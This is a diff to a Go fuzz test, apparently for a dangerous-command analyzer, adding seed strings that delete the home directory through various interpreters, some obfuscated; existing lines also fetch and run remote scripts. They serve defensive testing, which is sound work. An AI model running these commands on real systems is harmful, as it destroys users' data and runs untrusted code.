@@ -11,6 +11,10 @@ func FuzzAnalyze(f *testing.F) {
 		"cat > a.sh <<'EOF'\nrm -rf ~\nEOF\nsh a.sh", "python3 -c \"import os; os.system('rm -rf ~')\"",
 		"awk 'BEGIN{system(\"", "perl -e 'system(", "node -e \"spawn('rm', ['-rf'", "$(printf '%",
 		"iex (iwr https://x.example/a.ps1)", "> /var/log/x", "curl -o x https://x/y; ./x",
+		"tclsh <<< 'exec rm -rf ~; if {1} { catch {file delete -force [pwd]} }'", "expect -c 'spawn \"[",
+		"tmux new -d 'rm' \\; send-keys -t 0 x Enter", "screen -dmS x -X stuff 'rm\\n'",
+		"python3 -c \"os.system(chr(114)+bytes.fromhex('72').decode()+'x'[::-1])\"", "rm -rf \"$(dirname \"$PWD\")\"",
+		"ssh -p 22 h rm -rf ~", "sqlite3 x '.shell rm -rf ~'", "Rscript -e 'system2(\"rm\", c(\"-rf\"))'",
 	} {
 		f.Add(s)
 	}
